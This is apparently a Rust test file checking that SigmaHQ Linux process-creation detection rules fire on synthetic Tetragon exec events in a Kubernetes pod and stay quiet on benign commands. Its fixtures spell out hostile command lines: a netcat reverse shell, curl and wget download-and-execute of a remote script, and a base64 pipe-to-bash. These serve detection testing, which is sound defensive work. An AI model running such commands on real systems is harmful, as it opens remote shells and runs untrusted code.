//! Real SigmaHQ Linux `process_creation` rules (`$VIGIL_CORPUS/sigma/rules/linux/
//! process_creation`) fire on Tetragon `process_exec` events built to match them — the
//! decoder's Sigma view (Image, CommandLine, ParentImage …) and logsource are what
//! those rules read — and stay silent on a benign exec.

use std::path::{Path, PathBuf};

use serde_json::json;
use vigil_normalize::{AutoDecoder, Normalized, SourceKind};
use vigil_sigma::loader::load_paths;
use vigil_sigma::{Compiled, Evaluator, PipelineSet};

/// The corpus root, or `None` (test skipped) when `VIGIL_CORPUS` is unset — except in
/// CI, where a missing corpus is a failure.
fn corpus() -> Option<PathBuf> {
    match std::env::var_os("VIGIL_CORPUS") {
        Some(p) => {
            let p = PathBuf::from(p);
            Some(if p.is_absolute() { p } else { Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(p) })
        }
        None => {
            assert!(std::env::var("CI").as_deref() != Ok("true"), "VIGIL_CORPUS must be set when CI=true");
            eprintln!("skipped: VIGIL_CORPUS not set");
            None
        }
    }
}

fn rules(root: &Path) -> Compiled {
    let dir = root.join("sigma/rules/linux/process_creation");
    let loaded = load_paths(&[dir]).expect("rules load");
    assert!(loaded.files > 100, "SigmaHQ linux process_creation rules: {}", loaded.files);
    loaded.compile(&PipelineSet::default())
}

/// A `process_exec` in Tetragon's JSON export shape: `binary args` run by `parent`
/// inside a pod.
fn exec(binary: &str, arguments: &str, parent: &str, parent_arguments: &str) -> String {
    json!({
        "process_exec": {
            "process": {
                "exec_id": "a2luZC1jb250cm9sLXBsYW5lOjEyMzQ1Njc4OjQyNDI=",
                "pid": 4242,
                "uid": 0,
                "cwd": "/tmp",
                "binary": binary,
                "arguments": arguments,
                "flags": "execve clone",
                "start_time": "2026-05-01T10:00:00.000000001Z",
                "auid": 4294967295u64,
                "pod": {
                    "namespace": "shop",
                    "name": "frontend-7d4b9c-x2x2q",
                    "container": {
                        "id": "containerd://5e1f7a3c9b2d",
                        "name": "frontend",
                        "image": {"id": "docker.io/library/nginx@sha256:00", "name": "docker.io/library/nginx:1.27"},
                        "pid": 17
                    },
                    "workload": "frontend",
                    "workload_kind": "Deployment"
                },
                "parent_exec_id": "a2luZC1jb250cm9sLXBsYW5lOjEyMzQ1Njc3OjQyNDA="
            },
            "parent": {
                "exec_id": "a2luZC1jb250cm9sLXBsYW5lOjEyMzQ1Njc3OjQyNDA=",
                "pid": 4240,
                "uid": 0,
                "cwd": "/tmp",
                "binary": parent,
                "arguments": parent_arguments
            }
        },
        "node_name": "worker-1",
        "time": "2026-05-01T10:00:00.000100000Z"
    })
    .to_string()
}

fn decode(record: &str) -> Normalized {
    let mut out = Vec::new();
    assert_eq!(AutoDecoder::new(None).decode(record, &mut out), Ok(SourceKind::Tetragon));
    out.remove(0)
}

/// `(id, title)` of every rule that fires on the event.
fn fired(compiled: &Compiled, event: &Normalized) -> Vec<(String, String)> {
    let mut evaluator = Evaluator::new(&compiled.rules);
    let mut out = Vec::new();
    evaluator.evaluate_json(&event.sigma_json(), Some(&event.logsource), &mut out).expect("sigma view is JSON");
    let mut hits: Vec<(String, String)> = out
        .iter()
        .map(|r| {
            let meta = &compiled.rules.rules()[*r as usize].meta;
            (meta.id.clone().unwrap_or_default(), meta.title.clone())
        })
        .collect();
    hits.sort();
    hits
}

#[test]
fn sigmahq_linux_process_creation_rules_fire_on_tetragon_execs() {
    let Some(root) = corpus() else { return };
    let compiled = rules(&root);
    // (binary, arguments, parent, parent arguments, SigmaHQ rule id, title)
    let cases = [
        (
            "/usr/bin/nc",
            "-e /bin/sh 10.0.0.1 4444",
            "/bin/bash",
            "",
            "7f734ed0-4f47-46c0-837f-6ee62505abd9",
            "Potential Netcat Reverse Shell Execution",
        ),
        (
            "/usr/bin/base64",
            "-d /tmp/payload.b64",
            "/bin/sh",
            "-c ./install.sh",
            "e2072cab-8c9a-459b-b63c-40ae79e27031",
            "Decode Base64 Encoded Text",
        ),
        (
            "/usr/bin/wget",
            "http://203.0.113.9/x.sh -O /tmp/x.sh",
            "/bin/sh",
            "",
            "cf610c15-ed71-46e1-bdf8-2bd1a99de6c4",
            "Download File To Potentially Suspicious Directory Via Wget",
        ),
        (
            "/bin/sh",
            "-c \"/usr/bin/curl -fsSL http://203.0.113.9/x.sh -o /tmp/x.sh; sh -c /tmp/x.sh\"",
            "/usr/sbin/nginx",
            "-g daemon off;",
            "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa",
            "Suspicious Download and Execute Pattern via Curl/Wget",
        ),
        (
            "/bin/bash",
            "-c echo ZWNobyBwd25lZA== | base64 -d | bash",
            "/usr/bin/python3",
            "app.py",
            "ba592c6d-6888-43c3-b8c6-689b8fe47337",
            "Linux Base64 Encoded Pipe to Shell",
        ),
    ];
    for (binary, arguments, parent, parent_arguments, id, title) in cases {
        let event = decode(&exec(binary, arguments, parent, parent_arguments));
        assert_eq!(event.sigma["Image"], binary);
        assert_eq!(event.sigma["CommandLine"], format!("{binary} {arguments}"));
        let hits = fired(&compiled, &event);
        assert!(
            hits.iter().any(|(i, t)| i == id && t == title),
            "{binary} {arguments}: expected {title} ({id}), fired {hits:#?}"
        );
    }
}

#[test]
fn a_benign_exec_fires_no_sigmahq_linux_process_creation_rule() {
    let Some(root) = corpus() else { return };
    let compiled = rules(&root);
    for (binary, arguments, parent) in [
        ("/usr/sbin/nginx", "-g daemon off;", "/usr/bin/containerd-shim-runc-v2"),
        ("/usr/bin/ls", "-la /var/www", "/bin/bash"),
        ("/usr/local/bin/python3", "manage.py migrate", "/bin/sh"),
    ] {
        let event = decode(&exec(binary, arguments, parent, ""));
        let hits = fired(&compiled, &event);
        assert!(hits.is_empty(), "{binary} {arguments} fired {hits:#?}");
    }
}

#[test]
fn process_creation_rules_do_not_fire_on_other_tetragon_events() {
    let Some(root) = corpus() else { return };
    let compiled = rules(&root);
    // The netcat reverse shell again, as an exit: logsource routing keeps
    // process_creation rules off it.
    let record =
        exec("/usr/bin/nc", "-e /bin/sh 10.0.0.1 4444", "/bin/bash", "").replacen("process_exec", "process_exit", 1);
    let event = decode(&record);
    assert_eq!(event.ocsf["activity_id"], 2);
    assert!(fired(&compiled, &event).is_empty());
}
